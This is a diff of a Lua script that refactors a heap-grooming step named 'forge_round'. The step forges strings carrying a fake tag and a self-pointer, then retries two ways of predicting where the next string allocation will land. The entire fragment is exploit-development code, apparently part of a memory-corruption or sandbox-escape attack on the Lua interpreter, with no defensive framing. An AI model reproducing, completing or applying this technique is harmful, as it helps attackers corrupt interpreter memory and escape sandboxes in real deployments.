@@ -124,29 +124,30 @@ local function forge_round(fill_of, tag)
     local self7 = string.pack("<I8", a + 24 + len + 1 - udsize):sub(1, 7)
     return fill_of(len - 15) .. tag .. self7
   end
+  -- up to 3 tries of one way to predict where the next string of len bytes goes; the
+  -- values after the address stay alive while the forged string is built
+  local function land(len, udsize, predict)
+    for _ = 1, 3 do
+      local a, _keep1, _keep2 = predict()
+      local s = forged(len, a, udsize)
+      if addr(s) == a then return 1 end
+    end
+    return 0
+  end
   for len = 150, 230 do
     for _, udsize in ipairs({168, 176, 184, 192}) do
-      for _ = 1, 3 do
+      -- in the block a string of the same length just left
+      landed = landed + land(len, udsize, function()
         collectgarbage()
-        local probe = string.rep("B", len)
-        local a = addr(probe)
-        probe = nil
+        local a = addr(string.rep("B", len))
         collectgarbage()
-        local s = forged(len, a, udsize)
-        if addr(s) == a then
-          landed = landed + 1
-          break
-        end
-      end
-      for _ = 1, 3 do
+        return a
+      end)
+      -- next to the last two blocks of that size
+      landed = landed + land(len, udsize, function()
         local s1, s2 = string.rep("B", len), string.rep("C", len)
-        local a = 2 * addr(s2) - addr(s1)
-        local s = forged(len, a, udsize)
-        if addr(s) == a then
-          landed = landed + 1
-          break
-        end
-      end
+        return 2 * addr(s2) - addr(s1), s1, s2
+      end)
       collectgarbage()
       collectgarbage()
     end
